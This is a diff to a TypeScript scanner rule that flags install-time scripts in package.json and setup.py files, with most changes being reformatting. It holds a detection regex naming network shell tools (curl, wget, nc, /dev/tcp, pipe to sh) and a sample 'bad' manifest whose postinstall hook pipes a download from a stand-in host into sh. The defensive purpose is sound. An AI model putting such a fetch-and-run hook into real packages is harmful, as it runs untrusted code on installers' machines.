@@ -2,7 +2,8 @@ import type { Finding, Rule } from './rule.js';
 
 // `prepare` runs where the package is made and for whoever installs it from a repository, not from the registry.
 const hooks = ['preinstall', 'install', 'postinstall'];
-const loud = /\b(?:curl|wget|nc|bash -c|powershell|Invoke-WebRequest|base64|eval|xxd)\b|https?:\/\/|python\d?\s+-c|\/dev\/tcp|\$\(|\|\s*sh\b/i;
+const loud =
+  /\b(?:curl|wget|nc|bash -c|powershell|Invoke-WebRequest|base64|eval|xxd)\b|https?:\/\/|python\d?\s+-c|\/dev\/tcp|\$\(|\|\s*sh\b/i;
 /** A line of script in the manifest is judged by what it says: one that sets a file mode is not one that fetches. */
 const inline = /node\s+(?:-e|--eval)\s+("|')([\s\S]*)\1/;
 const acts = /https?|fetch\(|child_process|exec|spawn|eval|Function|Buffer\.from|atob|net\b|process\.env|homedir/;
@@ -20,12 +21,17 @@ export const installScripts: Rule = {
   safeMcp: ['SAFE-T1002'],
   why: 'An install script runs with the rights of whoever installs, before any check of the server itself.',
   mend: 'Do the work in the build, or at the first start where the user sees it.',
-  cases: [{
-    language: 'json',
-    bad: '{ "name": "demo-mcp", "version": "1.0.0", "scripts": { "postinstall": "curl -s https://get.example.com/x | sh" } }\n',
-    good: '{ "name": "demo-mcp", "version": "1.0.0", "scripts": { "build": "tsc" } }\n',
-  }],
-  find: (scanned) => [...scanned.texts].flatMap(([path, text]) => (path.endsWith('package.json') ? inManifest(path, text) : path.endsWith('setup.py') ? inSetup(path, text) : [])),
+  cases: [
+    {
+      language: 'json',
+      bad: '{ "name": "demo-mcp", "version": "1.0.0", "scripts": { "postinstall": "curl -s https://get.example.com/x | sh" } }\n',
+      good: '{ "name": "demo-mcp", "version": "1.0.0", "scripts": { "build": "tsc" } }\n',
+    },
+  ],
+  find: (scanned) =>
+    [...scanned.texts].flatMap(([path, text]) =>
+      path.endsWith('package.json') ? inManifest(path, text) : path.endsWith('setup.py') ? inSetup(path, text) : [],
+    ),
 };
 
 const at = (file: string, text: string, offset: number) => {
@@ -44,14 +50,44 @@ function inManifest(path: string, text: string): Finding[] {
   if (typeof scripts !== 'object' || scripts === null) return [];
   return Object.entries(scripts).flatMap(([name, command]): Finding[] => {
     if (!hooks.includes(name) || typeof command !== 'string') return [];
-    if (isLoud(command)) return [{ rule: installScripts.id, kind: 'bug', severity: 'high', message: `The ${name} script fetches or evaluates code: ${command.slice(0, 160)}`, location: at(path, text, text.indexOf(`"${name}"`)) }];
-    if (/^(?:husky|patch-package|node-gyp|prebuild-install|is-ci|exit 0|echo\b|tsc|npm run build|opencollective)/.test(command.trim())) return [];
-    return [{ rule: installScripts.id, kind: 'bug', severity: 'low', message: `The package runs ${command.slice(0, 160)} while it is installed`, location: at(path, text, text.indexOf(`"${name}"`)) }];
+    if (isLoud(command))
+      return [
+        {
+          rule: installScripts.id,
+          kind: 'bug',
+          severity: 'high',
+          message: `The ${name} script fetches or evaluates code: ${command.slice(0, 160)}`,
+          location: at(path, text, text.indexOf(`"${name}"`)),
+        },
+      ];
+    if (
+      /^(?:husky|patch-package|node-gyp|prebuild-install|is-ci|exit 0|echo\b|tsc|npm run build|opencollective)/.test(
+        command.trim(),
+      )
+    )
+      return [];
+    return [
+      {
+        rule: installScripts.id,
+        kind: 'bug',
+        severity: 'low',
+        message: `The package runs ${command.slice(0, 160)} while it is installed`,
+        location: at(path, text, text.indexOf(`"${name}"`)),
+      },
+    ];
   });
 }
 
 function inSetup(path: string, text: string): Finding[] {
   const found = setupActs.exec(text);
   if (!found || !setupLoud.test(text)) return [];
-  return [{ rule: installScripts.id, kind: 'bug', severity: 'high', message: 'The set-up script runs programs or talks to the network while it installs', location: at(path, text, found.index) }];
+  return [
+    {
+      rule: installScripts.id,
+      kind: 'bug',
+      severity: 'high',
+      message: 'The set-up script runs programs or talks to the network while it installs',
+      location: at(path, text, found.index),
+    },
+  ];
 }
